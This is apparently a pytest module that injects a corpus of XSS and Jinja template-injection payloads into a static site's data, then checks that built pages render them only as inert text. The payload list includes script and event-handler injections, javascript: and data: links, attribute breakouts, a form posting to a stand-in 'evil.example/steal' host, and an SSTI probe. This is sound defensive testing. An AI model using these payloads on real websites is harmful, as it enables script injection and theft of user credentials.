"""A hostile pull request: script and markup payloads in every kind of text field.

The fixture knowledge base is filled with a corpus of XSS payloads (raw HTML, event handlers,
`javascript:` and `data:` links written as Markdown, attribute breakouts, entity tricks,
Markdown raw HTML blocks, Jinja syntax), then built into a real site. Every built HTML page is
parsed and must contain no markup the theme does not ship itself, while every payload is still
visible to the reader as text.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from bs4 import BeautifulSoup, Tag

from generator.cli import main
from generator.model.settings import Project
from generator.pipeline.build import build_site

from .conftest import FIXTURE, REPO, WHOLE, write

pytestmark = pytest.mark.hostile
"""In `make test-fast` although it builds sites (conftest.MARKERS)."""

PAYLOADS: list[str] = [
    "<script>alert('script-tag')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('img-onerror')>",
    "<svg onload=alert('svg-onload')>",
    "<svg><script>alert('svg-script')</script></svg>",
    "[md-js](javascript:alert('md-link'))",
    "[md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[md-vb](vbscript:msgbox('md-vb'))",
    "![md-img](javascript:alert('md-image'))",
    "<javascript:alert('autolink')>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<form action=\"https://evil.example/steal\"><input name=pw><button formaction=javascript:alert('form')>go</button></form>",
    "<a href=javascript:alert('a-href')>a-href</a>",
    "<a href=\"data:text/html,<script>alert('a-data')</script>\">a-data</a>",
    "\" onmouseover=\"alert('dq-breakout')",
    "' onfocus='alert(\"sq-breakout\")' autofocus='",
    "'><script>alert('sq-close')</script>",
    "\"><img src=x onerror=alert('dq-close')>",
    "</title><script>alert('title-close')</script>",
    "</textarea></style></noscript><script>alert('rawtext-close')</script>",
    "&#x3C;script&#x3E;alert('hex-entity')&#x3C;/script&#x3E;",
    "&lt;script&gt;alert('named-entity')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('dec-entity')&#62;",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<math><mi xlink:href=\"javascript:alert('mathml')\">m</mi></math>",
    "<details open ontoggle=alert('ontoggle')>d</details>",
    '<base href="https://evil.example/">',
    "<!-- <script>alert('comment')</script> -->",
    "`<script>alert('code-span')</script>`",
    "raw block:\n\n<div onclick=\"alert('html-block')\">raw html block</div>\n\nafter the block",
    "reference:\n\n[ref-link][evil]\n\n[evil]: javascript:alert('md-reference')",
    "{{ 'kb' ~ 'pwned' }}",
    "{% if false %}kb-hidden{% endif %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{# kb-jinja-comment #}",
]
"""More than 25 payloads; each text field below gets all of them at once."""

TEXT = " ".join(PAYLOADS)
"""The hostile text: what a reader must see, literally, wherever the field is shown."""

TITLE = (
    TEXT
    + " # heading [md-title](javascript:alert('title-md')) { .kb-attr-x } {: #kb-title-id data-x=1 } | a | b | ~~tilde~~ "
    + "Samarbeidsmøteforberedelsesrutinegjennomgangsdokumentasjonskravspesifikasjonsarbeidsgruppe" * 3
)
"""A finding's title: every payload, Markdown a heading or an attribute list would read (`# `, a
link, `{ .attr }`, `|`), and a word far wider than a phone. It names the finding everywhere."""


def _title(label: str) -> dict[str, str]:
    """A finding's hostile title, told apart by `label` (titles name findings in lists)."""
    return {"nb": f"{label} {TITLE}", "en": f"{label} {TITLE}", "nb_origin": "editorial"}


NAME = TEXT.replace(",", ";") + ", Gunn"
"""A person's name ('Family, Given': one comma) whose family name is the payloads (given names are
abbreviated to initials in a citation, so they would not show the payloads whole)."""


def _flat(text: str) -> str:
    return " ".join(text.split())


# --- the hostile pull request ------------------------------------------------------------


def _edit(project: Project, rel: str, change: Callable[[dict[str, Any]], None]) -> None:
    path = project.data_dir / rel
    data = yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
    change(data)
    write(path, yaml.dump(data, Dumper=yaml.CSafeDumper, allow_unicode=True, sort_keys=False, width=10_000))


def _text(label: str = "") -> dict[str, str]:
    return {"nb": f"{label}{TEXT}", "en": f"{label}{TEXT}"}


def _finding(d: dict[str, Any]) -> None:
    d["statement"] = _text()
    d["components"]["methodological_limitations"]["explanation"] = _text()
    d["title"] = _title(d["id"])
    for change in d.get("history", []):  # the changelog shows what changed, and the text before
        change["change"] = _text()
        if "previous" in change:
            change["previous"]["statement"] = _text()


def _finding_title(d: dict[str, Any]) -> None:
    d["title"] = _title(d["id"])


def _study(d: dict[str, Any]) -> None:
    d["citation"] = TEXT
    d["aliases"] = ["alias " + TEXT]
    d["title"] = TEXT
    d["population"] = _text()
    d["results"][0]["text"] = _text()


def _study_beta(d: dict[str, Any]) -> None:
    d["appraisal"]["source_wording"] = TEXT


def _publication(d: dict[str, Any]) -> None:
    d["title"] = _text()
    d["short_title"] = _text()
    d["institutions"] = [_text()]
    d["commissioner"] = _text()
    km = d["key_messages"]
    km["introduction"] = [_text()]
    km["groups"][0]["heading"] = _text()
    km["groups"][0]["bullets"] = [_text(), _text()]
    km["closing"] = _text()
    d["summary"][0]["heading"] = _text()
    d["summary"][0]["paragraphs"] = [_text()]
    d["method"]["research_question"] = _text()
    d["history"][0]["change"] = _text()


def _reference(d: dict[str, Any]) -> None:
    d["text"] = TEXT
    d["title"] = TEXT
    d["series"] = TEXT
    d["authors"] = [TEXT]


def _note(d: dict[str, Any]) -> None:
    d["text"] = _text()
    d["source_location"] = TEXT


def _assessment(d: dict[str, Any]) -> None:
    d["intervention"] = _text()


def _characteristic(d: dict[str, Any]) -> None:
    d["name"] = _text()
    d["short_name"] = _text()
    d["description"] = [_text()]
    d["question"] = _text()


def _theme(d: dict[str, Any]) -> None:
    d["name"] = _text()
    d["description"] = _text()


def _matrix(d: dict[str, Any]) -> None:
    d["title"] = _text()
    d["introduction"] = _text()


# --- the kinds of the whole knowledge base (fixtures/kb-whole) --------------------------------


def _thesis(d: dict[str, Any]) -> None:
    d["authors"] = [NAME]
    d["series"] = TEXT
    d["series_number"] = TEXT
    d["chapters"][0]["heading"] = _text()
    d["chapters"][0]["bullets"] = [_text()]
    d["chapters"][0]["source_location"] = TEXT
    chart = d["charts"][0]
    chart["title"] = _text()
    chart["unit"] = _text()
    chart["categories"] = [_text(), _text()]
    chart["series"][0]["name"] = _text()
    chart["note"] = _text()
    chart["source_location"] = TEXT


def _sub_theme(d: dict[str, Any]) -> None:
    d["name"] = _text()


def _result(d: dict[str, Any]) -> None:
    d["title"] = _title(d["id"])
    d["statement"] = _text()
    d["strength"] = _text()
    d["source_location"] = TEXT


def _effect_study(d: dict[str, Any]) -> None:
    d["citation"] = "delta " + TEXT
    d["control_group"] = _text()
    d["effects"][0]["text"] = _text()
    d["effects"][0]["timepoint"] = _text()


def _intervention(d: dict[str, Any]) -> None:
    d["name"] = _text()
    d["aliases"] = [TEXT]
    d["components"] = [_text()]
    d["evidence_text"] = _text()
    d["evidence_references"] = [TEXT]


def _implication(d: dict[str, Any]) -> None:
    d["heading"] = _text()
    d["text"] = _text()
    d["source_location"] = TEXT


def _case(d: dict[str, Any]) -> None:
    d["title"] = _text()
    d["place"] = TEXT
    d["paragraphs"] = [_text()]
    d["status"] = _text()


def _topic(d: dict[str, Any]) -> None:
    d["name"] = _text()
    d["description"] = _text()


def _glossary_term(d: dict[str, Any]) -> None:
    """Its name and definition full of payloads, a form full of regular-expression syntax beside its
    own forms: the term is still explained where a page names it, with its definition as text."""
    d["term"]["nb"] = "helsesykepleier " + TEXT
    d["definition"] = {**_text(), "nb_origin": "editorial"}
    d["forms_nb"] = ["(helse|syke)+*?[pleier]\\", *d["forms_nb"]]


def _source_term(d: dict[str, Any]) -> None:
    d["source_location"] = TEXT


QUOTE_TEXT = " ".join(p for p in PAYLOADS if "evil.example/" not in p)
"""The payloads a quotation can hold: `check` refuses a web address in a quote (privacy.py), so the
two payloads that carry one are left out of it (they are in every other field)."""


def _quote(d: dict[str, Any]) -> None:
    d["text"] = {"nb": QUOTE_TEXT, "en": QUOTE_TEXT}
    d["source_location"] = TEXT


def _labels(*term_ids: str, fields: tuple[str, ...] = ("label",)) -> Callable[[dict[str, Any]], None]:
    def change(d: dict[str, Any]) -> None:
        for term in d["terms"]:
            if term["id"] in term_ids:
                for name in fields:
                    term[name] = _text()

    return change


HOSTILE_EDITS: dict[str, Callable[[dict[str, Any]], None]] = {
    "findings/demo-2025-f01.yaml": _finding,
    "findings/demo-2025-f03.yaml": _finding,
    "findings/demo-2025-f02.yaml": _finding_title,
    "findings/demo-thesis-2022-f01.yaml": _finding_title,
    "themes/tema-a.yaml": _theme,
    "studies/alpha-2020.yaml": _study,
    "studies/beta-2021.yaml": _study_beta,
    "publications/demo-2025.yaml": _publication,
    "references/demo-2025-r02.yaml": _reference,
    "notes/note-demo-count.yaml": _note,
    "assessments/demo-2025-tiltak-alpha-2020.yaml": _assessment,
    "characteristics/komp.yaml": _characteristic,
    "matrices/demo-2025-matrise.yaml": _matrix,
    "vocabularies/confidence.yaml": _labels("moderate", "high", fields=("label", "short", "phrase", "description")),
    "vocabularies/concern.yaml": _labels("moderate", fields=("label", "short", "phrase")),
    "vocabularies/country.yaml": _labels("usa", "nor"),
    "vocabularies/design.yaml": _labels("rct", fields=("label", "short")),
    "vocabularies/matrix-value.yaml": _labels("no", "yes"),
    "vocabularies/status.yaml": _labels("published"),
    "publications/demo-thesis-2022.yaml": _thesis,
    "themes/oppgave-under-1.yaml": _sub_theme,
    "findings/demo-thesis-2022-f02.yaml": _result,
    "studies/delta-2019.yaml": _effect_study,
    "interventions/demo-team.yaml": _intervention,
    "implications/demo-thesis-2022-i01.yaml": _implication,
    "cases/demo-case.yaml": _case,
    "topics/tidlig.yaml": _topic,
    "vocabularies/effect-direction.yaml": _labels("positive", fields=("label", "short", "description")),
    "vocabularies/audience.yaml": _labels("teachers"),
    "vocabularies/outcome.yaml": _labels("work-participation"),
    "vocabularies/sector.yaml": _labels("health"),
    "glossary/helsesykepleier.yaml": _glossary_term,
    "glossary/hoy-tillit.yaml": _source_term,
    "quotes/demo-thesis-2022-q01.yaml": _quote,
    "vocabularies/informant-group.yaml": _labels("parents"),
    "vocabularies/evidence-status.yaml": _labels("promising"),  # a group of interventions on the home page
    "vocabularies/license.yaml": _labels("cc-by-4-0"),
}


def _site_config(project: Project) -> None:
    """Who publishes the knowledge base, in every citation of a topic and in the PDFs' colophon."""
    path = project.root / "site.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["publisher"] = _text()
    write(path, yaml.dump(data, Dumper=yaml.CSafeDumper, allow_unicode=True, sort_keys=False, width=10_000))


def _copy(tmp: Path) -> Project:
    """The fixture data with the project's real theme: its mkdocs.yml, overrides/ (page chrome,
    Pagefind, PDF links) and content/assets/ (kb.js, kb.css), so the attack meets what readers get;
    a CERQual finding tagged with the topic, so the topic and home pages show it."""
    root = tmp / "kb"
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("build", "site"))
    shutil.copytree(WHOLE, root, dirs_exist_ok=True)  # every kind of page, not only the review's
    shutil.rmtree(root / "overrides", ignore_errors=True)  # absent in a clean clone: git keeps no empty folders
    shutil.copytree(REPO / "overrides", root / "overrides")
    shutil.copytree(REPO / "content" / "assets", root / "content" / "assets")
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    for lang in ("nb", "en"):  # a hand-written page that cites a finding
        write(root / "content" / lang / "om.md", "# Om\n\nEt funn: [[finding:demo-2025-f01]]\n")
    # A finding with a confidence on the topic: the topic page and the home page lead with it.
    finding = root / "data" / "findings" / "demo-2025-f01.yaml"
    finding.write_text(finding.read_text(encoding="utf-8") + "topics: [tidlig]\n", encoding="utf-8")
    return Project(root)


@pytest.fixture(scope="module")
def clean_site(tmp_path_factory: pytest.TempPathFactory, site_building: None) -> Path:
    project = _copy(tmp_path_factory.mktemp("clean"))
    build_site(project, with_pdf=False)
    return project.site_dir


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory, site_building: None) -> Path:
    project = _copy(tmp_path_factory.mktemp("hostile"))
    for rel, change in HOSTILE_EDITS.items():
        _edit(project, rel, change)
    _site_config(project)
    build_site(project, with_pdf=False)
    return project.site_dir


def _pages(site: Path) -> dict[str, BeautifulSoup]:
    return {
        p.relative_to(site).as_posix(): BeautifulSoup(p.read_text(encoding="utf-8"), "html.parser")
        for p in sorted(site.rglob("*.html"))
    }


@pytest.fixture(scope="module")
def clean_pages(clean_site: Path) -> dict[str, BeautifulSoup]:
    return _pages(clean_site)


@pytest.fixture(scope="module")
def hostile_pages(hostile_site: Path) -> dict[str, BeautifulSoup]:
    return _pages(hostile_site)


JSON_LD = "application/ld+json"


def _script(tag: Tag) -> tuple[str, str, str, str]:
    """What a script is. JSON-LD (a publication's page, citing.py) is data, never run: its text
    differs with the data, so it is compared by being there; what it holds is tested below."""
    body = "(data)" if tag.get("type") == JSON_LD else tag.string or ""
    return (tag.get("src", ""), tag.get("type", ""), tag.get("id", ""), body)


# --- the corpus itself -----------------------------------------------------------------


def test_the_corpus_is_big_enough_and_every_edit_is_valid_data(tmp_path: Path, capsys) -> None:
    assert len(PAYLOADS) >= 25
    project = _copy(tmp_path)
    for rel, change in HOSTILE_EDITS.items():
        _edit(project, rel, change)
    _site_config(project)
    assert main(["--root", str(project.root), "check"]) == 0, capsys.readouterr().err


# --- what the theme ships ----------------------------------------------------------------


def _allowed_script(script: tuple[str, str, str, str]) -> bool:
    src, kind, ident, body = script
    if src:
        return (
            re.search(r"(^|/)(assets/javascripts/bundle\.[0-9a-f]+\.min\.js|assets/kb\.js|pagefind/pagefind-ui\.js)$", src)
            is not None
        )
    if ident == "__config":
        return kind == "application/json"
    if kind == JSON_LD:
        return body == "(data)"
    return body.startswith(("__md_scope=new URL(", "var target=document.getElementById(location.hash.slice(1))"))


def test_a_clean_build_has_only_the_themes_scripts(clean_pages: dict[str, BeautifulSoup]) -> None:
    """What a clean build contains, and so all that is allowed: Material's bundle, its inline
    config (JSON, not code), its `__md_scope` bootstrap and anchor snippet and our assets/kb.js
    (which loads Pagefind's UI script when the search is first used)."""
    scripts = {_script(tag) for soup in clean_pages.values() for tag in soup.find_all("script")}
    assert sorted(s for s in scripts if not _allowed_script(s)) == []
    names = {re.sub(r"\.[0-9a-f]+\.min\.js$", ".min.js", s[0].rsplit("/", 1)[-1]) for s in scripts if s[0]}
    assert names == {"bundle.min.js", "kb.js"}  # Pagefind's UI is loaded by kb.js on first use
    assert {s[2] for s in scripts if not s[0]} == {"__config", ""}
    assert (("", JSON_LD, "", "(data)")) in scripts  # a publication's page


def test_the_hostile_site_has_the_same_pages(
    clean_pages: dict[str, BeautifulSoup], hostile_pages: dict[str, BeautifulSoup]
) -> None:
    assert sorted(hostile_pages) == sorted(clean_pages)


# --- no active markup from the data, region by region ------------------------------------

DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset")
COUNTED_ELEMENTS = (
    "script",
    "iframe",
    "form",
    "object",
    "embed",
    "base",
    "frame",
    "frameset",
    "applet",
    "input",
    "button",
    "details",
    "math",
    "img",
    "svg",
    "a",
    "style",
    "link",
    "meta",
    "strong",
    "em",
)
"""Elements a payload could smuggle in: the hostile page must have exactly as many as the clean one."""
PAYLOAD_LINK_LABELS = {"md-js", "md-data", "md-vb", "ref-link", "a-href", "a-data", "click"}


REGIONS = ("head", "page chrome", "article")
"""The parts of a page: <head>, the theme's header/navigation/footer, and the generated article."""

RegionTags = dict[int, tuple[BeautifulSoup, dict[str, list[Tag]]]]
"""Each page's tags by region, by the page's id (the page is kept with them, so its id is never
another page's)."""


@pytest.fixture(scope="module")
def region_tags() -> RegionTags:
    """The tags by region found so far, shared by the region tests of this module and dropped with
    it: a module-level dict kept 470,000 parsed tags alive for the rest of the test process, and
    every later garbage collection walked them (the preview's tests after this module ran 3x slower)."""
    return {}


def _tags_in(region: str, soup: BeautifulSoup, found_before: RegionTags) -> list[Tag]:
    """The page's tags in `region`, in document order: in <head> (or <head> itself), in <article>
    (or <article> itself), or in neither (the page chrome)."""
    if id(soup) not in found_before:
        within: dict[int, tuple[bool, bool]] = {}
        found: dict[str, list[Tag]] = {name: [] for name in REGIONS}
        for tag in soup.find_all(True):  # a parent comes before its children
            head, article = within.get(id(tag.parent), (False, False))
            head, article = head or tag.name == "head", article or tag.name == "article"
            within[id(tag)] = (head, article)
            for name, inside in (("head", head), ("article", article), ("page chrome", not head and not article)):
                if inside:
                    found[name].append(tag)
        found_before[id(soup)] = (soup, found)
    return found_before[id(soup)][1][region]


def _problems(region: str, soup: BeautifulSoup, clean: BeautifulSoup, found_before: RegionTags) -> list[str]:
    tags, clean_tags = _tags_in(region, soup, found_before), _tags_in(region, clean, found_before)
    found = []
    scripts, clean_scripts = (
        [_script(t) for t in tags if t.name == "script"],
        [_script(t) for t in clean_tags if t.name == "script"],
    )
    if scripts != clean_scripts:
        found.append(f"scripts differ from the clean build: {[s for s in scripts if s not in clean_scripts][:3]}")
    for tag in tags:
        for attr, value in tag.attrs.items():
            if attr.lower().startswith("on"):
                found.append(f"<{tag.name} {attr}>")
            if (
                attr.lower() in URL_ATTRIBUTES
                and isinstance(value, str)
                and "".join(value.split()).lower().startswith(DANGEROUS_SCHEMES)
            ):
                found.append(f"<{tag.name} {attr}={value[:40]!r}>")
        if tag.name == "a" and tag.get_text().strip() in PAYLOAD_LINK_LABELS:
            found.append(f"link made from data: <a>{tag.get_text()}</a>")
    for name in COUNTED_ELEMENTS:
        count, clean_count = sum(t.name == name for t in tags), sum(t.name == name for t in clean_tags)
        if count != clean_count:
            found.append(f"{count - clean_count:+d} <{name}>")
    return found


def _has_chart(soup: BeautifulSoup) -> bool:
    return soup.select_one("article svg.kb-chart") is not None


@pytest.mark.parametrize(
    ("region", "pages"),
    [
        # <title> and the sidebar: the generator sets an escaped `title:` in every page's front
        # matter and escapes nav titles, because the theme prints both raw.
        pytest.param("head", "all"),
        pytest.param("page chrome", "all"),
        pytest.param("article", "without a chart"),
        # the chart is a raw HTML block, so Markdown in its labels is never parsed
        pytest.param("article", "with a chart"),
    ],
)
def test_no_markup_from_the_data(
    clean_pages: dict[str, BeautifulSoup],
    hostile_pages: dict[str, BeautifulSoup],
    region_tags: RegionTags,
    region: str,
    pages: str,
) -> None:
    """No script but the theme's, no on* attribute, no javascript:/data:/vbscript: URL, no extra
    iframe/form/object/embed/base/img/... element, no link made from Markdown in the data."""
    chosen = {
        name: soup
        for name, soup in hostile_pages.items()
        if pages == "all" or _has_chart(clean_pages[name]) == (pages == "with a chart")
    }
    assert chosen
    found = {
        name: problems for name, soup in chosen.items() if (problems := _problems(region, soup, clean_pages[name], region_tags))
    }
    assert found == {}, f"{len(found)} of {len(chosen)} page(s), e.g. {next(iter(found.items()))}"


# --- payloads are shown as text ----------------------------------------------------------

VISIBLE = [
    ("findings/demo-2025-f01/index.html", "finding statement and explanation"),
    ("en/findings/demo-2025-f01/index.html", "finding statement (English)"),
    ("studies/alpha-2020/index.html", "study citation, aliases, population, result"),
    ("publications/demo-2025/index.html", "publication title and key messages"),
    ("en/publications/demo-2025/index.html", "publication title and key messages (English)"),
    ("publications/demo-2025/notes/index.html", "note text"),
    ("matrices/demo-2025-matrise/index.html", "matrix intervention, title and question"),
    ("publications/demo-2025/characteristics/index.html", "characteristic name and question"),
    ("publications/demo-2025/findings/index.html", "theme name and confidence label"),
    ("publications/demo-2025/method/index.html", "research question"),
    ("publications/demo-2025/studies/index.html", "study citation and country label"),
    ("glossary/index.html", "glossary term name and definition, where the source defines a term"),
    ("en/glossary/index.html", "glossary term name and definition (English)"),
    ("findings/demo-thesis-2022-f01/index.html", "quote location and informant group"),
    ("en/findings/demo-thesis-2022-f01/index.html", "quote location and informant group (English)"),
    ("publications/demo-thesis-2022/themes/index.html", "quote location and informant group on the themes page"),
    ("publications/demo-2025/references/index.html", "reference list entry"),
    ("publications/demo-2025/changelog/index.html", "what changed and the text before and after"),
    ("en/publications/demo-2025/changelog/index.html", "what changed and the text before and after (English)"),
    ("en/publications/demo-2025/references/index.html", "reference list entry (English)"),
]


@pytest.mark.parametrize(("page", "why"), VISIBLE)
def test_payloads_are_visible_as_text(hostile_pages: dict[str, BeautifulSoup], page: str, why: str) -> None:
    article = hostile_pages[page].find("article")
    assert article is not None
    for chart in article.select("svg.kb-chart"):
        chart.decompose()  # the chart repeats the labels without spaces between them; the tables carry the text
    assert _flat(TEXT) in _flat(article.get_text()), why


@pytest.mark.parametrize("page", ["findings/demo-thesis-2022-f01/index.html", "en/findings/demo-thesis-2022-f01/index.html"])
def test_a_hostile_definition_is_the_tooltips_text(hostile_pages: dict[str, BeautifulSoup], page: str) -> None:
    """Where a page first names the term, its definition is the tooltip's text, literally."""
    tips = hostile_pages[page].select("article .kb-term-tip")
    assert [tip["id"] for tip in tips] == ["kb-tip-helsesykepleier"]
    assert _flat(TEXT) in _flat(tips[0].get_text())


@pytest.mark.parametrize("page", ["findings/demo-thesis-2022-f01/index.html", "en/findings/demo-thesis-2022-f01/index.html"])
def test_a_quotation_is_shown_as_text_in_both_languages(hostile_pages: dict[str, BeautifulSoup], page: str) -> None:
    """The quote's words (and, on the English page, the source's Norwegian behind them) are its payloads, as text."""
    figures = hostile_pages[page].select("article figure.kb-quote")
    assert len(figures) == 1
    quotations = [_flat(b.get_text()) for b in figures[0].select("blockquote")]
    assert quotations == [_flat(QUOTE_TEXT)] * (2 if page.startswith("en/") else 1)


@pytest.mark.parametrize("lang", ["nb", "en"])
def test_a_quotation_is_printed_as_text(tmp_path: Path, lang: str) -> None:
    """In the report's print HTML (what WeasyPrint typesets), the quote is text under its finding and theme."""
    from generator.pipeline.build import load_or_fail
    from generator.print import pdf

    project = _copy(tmp_path)
    for rel, change in HOSTILE_EDITS.items():
        _edit(project, rel, change)
    index = load_or_fail(project)
    printed = BeautifulSoup(
        pdf.render_html(pdf.environment(), index, index.publication("demo-thesis-2022"), "full", lang), "html.parser"
    )
    figures = printed.select("figure.quote")
    assert len(figures) == 2  # under its finding and under its theme
    expected = _flat(pdf.in_quotation_marks(pdf.typographic(QUOTE_TEXT, "nb"), "nb"))
    for figure in figures:
        assert figure.find(["script", "img", "iframe", "form", "svg", "a"]) is None
        assert _flat(figure.select("blockquote")[-1].get_text()) == expected
        assert _flat(TEXT) in _flat(figure.figcaption.get_text())  # the informant group and the location


def test_every_payload_appears_verbatim_on_the_finding_page(hostile_pages: dict[str, BeautifulSoup]) -> None:
    text = _flat(hostile_pages["findings/demo-2025-f01/index.html"].find("article").get_text())
    for payload in PAYLOADS:
        assert _flat(payload) in text, payload


# --- a finding's title, wherever it names the finding --------------------------------------------

TITLE_PLACES = [
    ("findings/demo-2025-f01/index.html", "demo-2025-f01", "the finding page's heading"),
    ("en/findings/demo-2025-f01/index.html", "demo-2025-f01", "the finding page's heading (English)"),
    ("findings/demo-thesis-2022-f02/index.html", "demo-thesis-2022-f02", "a result's page"),
    ("publications/demo-2025/findings/index.html", "demo-2025-f03", "the findings table"),
    ("publications/demo-thesis-2022/findings/index.html", "demo-thesis-2022-f02", "a findings table without CERQual"),
    ("publications/demo-2025/lists/findings-all-moderate/index.html", "demo-2025-f01", "a drill-down list"),
    ("publications/demo-2025/evidence-profiles/index.html", "demo-2025-f01", "the evidence profiles"),
    ("studies/beta-2021/index.html", "demo-2025-f01", "a study's findings"),
    ("overview/index.html", "demo-2025-f01", "the pyramid on the overview"),
    ("practice/teachers/index.html", "demo-2025-f01", "an implication's supporting findings"),
    ("topics/tidlig/index.html", "demo-thesis-2022-f01", "a topic's findings"),
    ("publications/demo-thesis-2022/themes/index.html", "demo-thesis-2022-f01", "a theme's findings"),
    ("publications/demo-2025/notes/index.html", "demo-2025-f02", "what a note is about"),
    ("publications/demo-2025/changelog/index.html", "demo-2025-f03", "a change to a finding"),
    ("om/index.html", "demo-2025-f01", "a citation in a hand-written page"),
    ("en/om/index.html", "demo-2025-f01", "a citation in a hand-written page (English)"),
]


@pytest.mark.parametrize(("page", "finding", "where"), TITLE_PLACES)
def test_a_hostile_title_names_its_finding_as_text(
    hostile_pages: dict[str, BeautifulSoup], page: str, finding: str, where: str
) -> None:
    """The title, with every payload and all its Markdown, is shown whole and literal (no script,
    link, attribute or element made from it: test_no_markup_from_the_data), wherever it names the finding."""
    article = hostile_pages[page].find("article")
    assert article is not None
    assert _flat(f"{finding} {TITLE}") in _flat(article.get_text()), where


def test_a_hostile_title_is_the_literal_page_title_and_search_title(hostile_pages: dict[str, BeautifulSoup]) -> None:
    """<title>, the heading's `data-pagefind-meta` (what search reads as the page's title) and the
    result's title (`kb_title`) hold the title as text: no quote or brace ended an attribute early."""
    title = _flat(f"demo-2025-f01 {TITLE}")
    for page in ("findings/demo-2025-f01/index.html", "en/findings/demo-2025-f01/index.html"):
        soup = hostile_pages[page]
        assert soup.title is not None and soup.title.get_text().startswith(title)
        heading = soup.find("article").find("h1")
        assert heading["data-pagefind-meta"] == f"title:{title}"
        assert heading.get("class") is None and heading.get("data-x") is None and heading["id"] != "kb-title-id"
        body = soup.find(attrs={"data-pagefind-body": True})
        assert body["data-pagefind-meta"] == f"kb_title:{title}"


def test_a_hostile_title_in_print_is_text(tmp_path: Path) -> None:
    """The reports' HTML (findings table, summary, evidence profiles, studies, notes): the title is
    text wherever it names a finding, and no element is made from it."""
    from generator.pipeline.build import load_or_fail
    from generator.print import pdf

    def printed(project: Project) -> dict[str, BeautifulSoup]:
        index = load_or_fail(project)
        env, pub = pdf.environment(), index.publication("demo-2025")
        return {
            f"{kind}-{lang}": BeautifulSoup(pdf.render_html(env, index, pub, kind, lang), "html.parser")
            for kind in pdf.KINDS
            for lang in ("nb", "en")
        }

    clean = printed(_copy(tmp_path / "clean"))
    project = _copy(tmp_path / "hostile")
    for rel, change in HOSTILE_EDITS.items():
        _edit(project, rel, change)
    hostile = printed(project)
    for name, soup in hostile.items():
        for element in (*COUNTED_ELEMENTS, "h4", "span"):
            assert len(soup.find_all(element)) == len(clean[name].find_all(element)), (name, element)
        assert not [t for t in soup.find_all(True) if any(a.lower().startswith("on") for a in t.attrs)], name

    def title(finding: str, lang: str) -> str:  # as print sets it: typographic quotes
        return _flat(pdf.typographic(f"{finding} {TITLE}", lang))

    full = hostile["full-nb"]
    assert title("demo-2025-f01", "nb") in _flat(full.select_one("table.findings").get_text())
    assert title("demo-2025-f01", "nb") in _flat(full.select_one("#finding-demo-2025-f01 h4").get_text())
    assert title("demo-2025-f01", "nb") in _flat(full.select_one("#study-beta-2021").get_text())
    assert title("demo-2025-f02", "nb") in _flat(full.select_one("table.notes").get_text())
    assert title("demo-2025-f01", "en") in _flat(hostile["summary-en"].select_one("table.findings").get_text())


def test_jinja_syntax_in_data_is_printed_not_evaluated(hostile_site: Path, hostile_pages: dict[str, BeautifulSoup]) -> None:
    for name, soup in hostile_pages.items():
        text = soup.get_text()
        assert "kbpwned" not in text, name
        assert "__globals__" not in text.replace("{{ config.__class__.__init__.__globals__ }}", ""), name
        assert "kb-hidden" not in text or "{% if false %}kb-hidden{% endif %}" in text, name
    page = _flat(hostile_pages["findings/demo-2025-f01/index.html"].find("article").get_text())
    for literal in (
        "{{ 'kb' ~ 'pwned' }}",
        "{% if false %}kb-hidden{% endif %}",
        "{# kb-jinja-comment #}",
        "{{ config.__class__.__init__.__globals__ }}",
    ):
        assert literal in page
    staged = hostile_site.parent / "build" / "docs" / "nb" / "findings" / "demo-2025-f01.md"
    assert "{{ &#39;kb&#39; ~ &#39;pwned&#39; }}" in staged.read_text(encoding="utf-8")


# --- citations: JSON-LD, Scholar's tags, BibTeX, RIS -------------------------------------------

PUBLICATION_PAGES = (
    "publications/demo-2025/index.html",
    "en/publications/demo-2025/index.html",
    "publications/demo-thesis-2022/index.html",
)


@pytest.mark.parametrize("page", PUBLICATION_PAGES)
def test_json_ld_cannot_end_its_script_and_reads_as_the_data(hostile_site: Path, page: str) -> None:
    """A title holding `</script>` and `<!--` stays inside the JSON-LD: no <, > or & is left in it
    (written \\u003c ...), and the JSON reads back as the data, payloads and all."""
    html = (hostile_site / page).read_text(encoding="utf-8")
    found = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.DOTALL)
    assert len(found) == 1
    assert not set("<>&") & set(found[0])
    graph = json.loads(found[0])["@graph"]
    if "thesis" in page:
        assert _flat(graph[0]["author"][0]["familyName"]) == _flat(TEXT.replace(",", ";"))
    else:
        assert _flat(graph[0]["name"]) == _flat(TEXT)


def test_scholar_tags_hold_the_data_as_text(hostile_pages: dict[str, BeautifulSoup]) -> None:
    head = hostile_pages["publications/demo-thesis-2022/index.html"].head
    tags = [(t["name"], t["content"]) for t in head.find_all("meta") if t.get("name", "").startswith("citation_")]
    assert ("citation_author", "Gunn " + _flat(TEXT.replace(",", ";"))) in [(name, _flat(content)) for name, content in tags]
    assert ("citation_technical_report_number" in dict(tags)) is False  # a thesis: no report number
    assert _flat(dict(tags)["citation_dissertation_institution"]) == "Demouniversitetet"


def test_bibtex_and_ris_keep_hostile_fields_in_their_place(hostile_site: Path) -> None:
    """The BibTeX of the hostile thesis is one entry with exactly the fields written (a brace or a
    `}, author = {` in the data ends nothing); the RIS is one record whose values are the data."""
    import bibtexparser
    import rispy
    from bibtexparser.middlewares import LatexDecodingMiddleware

    bib = (hostile_site / "downloads" / "cite" / "publication-demo-thesis-2022.bib").read_text(encoding="utf-8")
    library = bibtexparser.parse_string(bib, append_middleware=[LatexDecodingMiddleware()])
    assert library.failed_blocks == [] and len(library.entries) == 1
    entry = library.entries[0]
    assert entry.entry_type == "mastersthesis"
